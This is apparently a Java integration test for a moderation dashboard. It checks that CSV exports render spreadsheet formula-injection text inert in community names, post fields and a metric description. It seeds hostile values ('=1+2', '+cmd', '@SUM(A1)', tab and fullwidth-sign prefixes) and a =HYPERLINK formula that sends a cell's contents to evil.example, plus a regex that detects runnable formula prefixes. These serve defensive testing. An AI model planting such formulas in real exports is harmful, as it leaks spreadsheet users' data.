package org.moderation.bi.dashboard.submissions;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.containsString;

import java.io.IOException;
import java.io.StringReader;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.sql.SQLException;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Pattern;

import jakarta.inject.Inject;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;

import org.moderation.bi.dashboard.readmodel.ReadModelFreshness;
import org.moderation.bi.dashboard.support.CatalogStub;
import org.moderation.bi.dashboard.support.Fixture;
import org.moderation.bi.dashboard.support.ReadModelDatabase;
import org.moderation.bi.shared.metrics.BuiltInMetrics;
import org.moderation.bi.shared.metrics.MetricDefinition;
import org.moderation.bi.testsupport.OidcServer;
import org.moderation.bi.testsupport.Tokens;

/**
 * Community slugs and names, a catalog metric's description, and posts' texts, authors and URLs, written to run as
 * formulas in a spreadsheet, arrive in the CSV exports as text: every cell, and every piece a spreadsheet may cut a
 * cell or a {@code #} line into.
 */
@QuarkusTest
@WithTestResource(ReadModelDatabase.class)
@WithTestResource(OidcServer.class)
@WithTestResource(CatalogStub.class)
class SpreadsheetSafeExportTest {

    private static final String MAY = "from=2024-05-01&to=2024-06-01";
    private static final String DESCRIPTION =
            "Counts removals.\n=1+2,=HYPERLINK(\"http://evil.example/?leak=\"&A9,\"click me\")";
    private static final MetricDefinition HOSTILE_METRIC = new MetricDefinition("hostile_description",
            "Removals, described by an attacker", DESCRIPTION, "simple", BuiltInMetrics.REMOVALS.unit(),
            BuiltInMetrics.REMOVALS.measure(), null, null, null, BuiltInMetrics.REMOVALS.grains(),
            BuiltInMetrics.REMOVALS.dimensions(), List.of());
    /** Each a community's slug and name, and each as the export writes it. */
    private static final List<String[]> COMMUNITIES = List.of(
            new String[] {"=1+2", "'=1+2"},
            new String[] {"+cmd", "'+cmd"},
            new String[] {"-2+3", "'-2+3"},
            new String[] {"@SUM(A1)", "'@SUM(A1)"},
            new String[] {"\tTAB", "'\tTAB"},
            new String[] {"\rCR", "'\rCR"},
            new String[] {" =1+2", "' =1+2"},
            new String[] {"\uFF1D1+2", "'\uFF1D1+2"},
            new String[] {"\n=1+2", "\n'=1+2"},
            new String[] {"North,=1+2", "North,'=1+2"},
            new String[] {"a;@x", "a;'@x"});
    /**
     * What a spreadsheet would run, said independently of the code under test: a piece of text (from its start or a
     * comma, semicolon, tab or line break on) that starts with a formula sign after blanks or double quotes, or with a
     * tab, carriage return or NUL of its own.
     */
    private static final Pattern RUNNABLE = Pattern.compile(
            "(?:^|[,;\\t\\r\\n])(?:[\\p{Zs}\\p{Cf}\"]*[=+\\-@\\uFF1D\\uFF0B\\uFF0D\\uFF20]|[\\t\\r\\x00])");

    @Inject
    ReadModelFreshness freshness;

    @BeforeEach
    void hostileCommunitiesAndMetric() throws SQLException {
        Fixture.load();
        try (var connection = ReadModelDatabase.connect()) {
            try (var community = connection.prepareStatement(
                    "INSERT INTO communities (legacy_id, name, slug, created_at) VALUES (?, ?, ?, '2021-01-01')");
                 var submission = connection.prepareStatement("""
                         INSERT INTO submissions (legacy_id, community_id, platform, platform_detail,
                                                  platform_source, status, submitted_at, legacy_removed_at,
                                                  legacy_updated_at, last_run_id)
                         SELECT ?, id, 'meta', 'facebook', 'url_host', 'removed', '2024-05-10 10:00+00',
                                '2024-05-11 00:00+00', now(), 1 FROM communities WHERE legacy_id = ?""");
                 var post = connection.prepareStatement("""
                         INSERT INTO post_data (submission_id, content_text, author_handle)
                         SELECT id, ?, ? FROM submissions WHERE legacy_id = ?""");
                 var url = connection.prepareStatement("UPDATE submissions SET url = ? WHERE legacy_id = ?")) {
                for (int i = 0; i < COMMUNITIES.size(); i++) {
                    community.setInt(1, 100 + i);
                    community.setString(2, COMMUNITIES.get(i)[0]);
                    community.setString(3, COMMUNITIES.get(i)[0]);
                    community.executeUpdate();
                    submission.setInt(1, 100 + i);
                    submission.setInt(2, 100 + i);
                    submission.executeUpdate();
                    // The post's text, its author and its recorded URL are the attacker's too.
                    post.setString(1, COMMUNITIES.get(i)[0] + " and more text");
                    post.setString(2, COMMUNITIES.get(i)[0]);
                    post.setInt(3, 100 + i);
                    post.executeUpdate();
                    url.setString(1, COMMUNITIES.get(i)[0]);
                    url.setInt(2, 100 + i);
                    url.executeUpdate();
                }
            }
            try (var sql = connection.createStatement()) {
                sql.execute("SELECT refresh_submission_facts(); "
                        + "UPDATE read_model_version SET version = version + 1, changed_at = now()");
            }
        }
        freshness.poll();
        CatalogStub.publish(HOSTILE_METRIC);
    }

    @AfterEach
    void catalogAsBefore() {
        CatalogStub.up();
    }

    @Test
    void theListsExportWritesEveryHostileTextInert() throws IOException {
        var query = "/api/v1/submissions?" + MAY + "&metric=" + HOSTILE_METRIC.key()
                + COMMUNITIES.stream().map(c -> "&community=" + encode(c[0])).reduce("", String::concat);
        int total = given().auth().oauth2(Tokens.superadmin()).urlEncodingEnabled(false).get(query).then()
                .statusCode(200).extract().<Number>path("total").intValue();
        String csv = given().auth().oauth2(Tokens.superadmin()).urlEncodingEnabled(false).get(query + "&format=csv")
                .then().statusCode(200).extract().asString();

        List<String> comments = commentLines(csv);
        assertThat(comments).as("one line each, however many line breaks their text had").hasSize(7);
        assertThat(comments).anyMatch(l -> l.equals("# rule: Counts removals.\\n=1+2,'=HYPERLINK("
                + "\"http://evil.example/?leak=\"&A9,\"click me\")"));
        assertThat(comments).anyMatch(l -> l.startsWith("# scope: superadmin, communities "))
                .contains("# rows: " + total);
        assertInert(comments);

        List<CSVRecord> rows = rows(csv);
        assertThat(rows).hasSize(total).hasSize(COMMUNITIES.size());
        assertThat(rows.stream().map(r -> r.get("community")))
                .containsExactlyInAnyOrderElementsOf(COMMUNITIES.stream().map(c -> c[1]).toList());
        assertThat(rows.stream().map(r -> r.get("author_handle")))
                .containsExactlyInAnyOrderElementsOf(COMMUNITIES.stream().map(c -> c[1]).toList());
        assertThat(rows.stream().map(r -> r.get("post_url")))
                .containsExactlyInAnyOrderElementsOf(COMMUNITIES.stream().map(c -> c[1]).toList());
        assertThat(rows).allSatisfy(r -> assertThat(r.get("excerpt")).endsWith(" and more text"));
        assertInert(rows.stream().flatMap(CSVRecord::stream).toList());
        // None of those URLs is a link to open.
        assertThat(given().auth().oauth2(Tokens.superadmin()).urlEncodingEnabled(false).get(query).then()
                .statusCode(200).extract().jsonPath().getList("items.link")).containsOnlyNulls();
    }

    @Test
    void theOverviewsExportWritesEveryHostileTextInert() throws IOException {
        String csv = given().auth().oauth2(Tokens.superadmin()).get("/api/v1/overview?" + MAY + "&format=csv").then()
                .statusCode(200).contentType(containsString("text/csv")).extract().asString();
        assertInert(commentLines(csv));
        List<CSVRecord> communities = rows(csv).stream().filter(r -> r.get("breakdown").equals("community")).toList();
        assertThat(communities.stream().map(r -> r.get("key")))
                .containsAll(COMMUNITIES.stream().map(c -> c[1]).toList());
        assertThat(communities.stream().map(r -> r.get("label")))
                .containsAll(COMMUNITIES.stream().map(c -> c[1]).toList());
        assertInert(communities.stream().flatMap(CSVRecord::stream).toList());
    }

    /** The lines above the header: each a whole comment on one line. */
    private static List<String> commentLines(String csv) {
        var comments = new ArrayList<String>();
        for (String line : csv.split("\n", -1)) {
            if (!line.startsWith("#")) {
                break;
            }
            comments.add(line);
        }
        assertThat(comments).allSatisfy(l -> assertThat(l).startsWith("# ").doesNotContain("\r"));
        return comments;
    }

    private static List<CSVRecord> rows(String csv) throws IOException {
        return CSVFormat.DEFAULT.builder().setCommentMarker('#').setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv)).getRecords();
    }

    private static void assertInert(List<String> texts) {
        assertThat(texts).isNotEmpty().allSatisfy(text -> assertThat(RUNNABLE.matcher(text).find())
                .as("a spreadsheet would run a piece of %s", text).isFalse());
    }

    private static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }
}
